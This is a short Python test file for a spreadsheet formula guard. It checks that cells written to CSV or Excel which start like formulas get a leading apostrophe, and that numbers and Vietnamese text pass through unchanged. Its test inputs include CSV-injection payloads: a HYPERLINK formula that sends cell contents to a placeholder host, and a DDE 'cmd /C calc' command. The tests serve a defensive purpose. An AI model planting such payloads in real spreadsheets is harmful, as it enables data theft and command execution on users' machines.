"""Cells written to CSV and Excel never run as formulas; numbers stay numbers."""

from __future__ import annotations

import pytest

from antt_desktop.domain.formula_guard import is_formula_like, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?a="&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "- Ghi chú đầu dòng",
    ],
)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+84912345678", "-3,5", "-12.5%", "Công an xã", 7, -3, None]
)
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert neutralise(value) == value
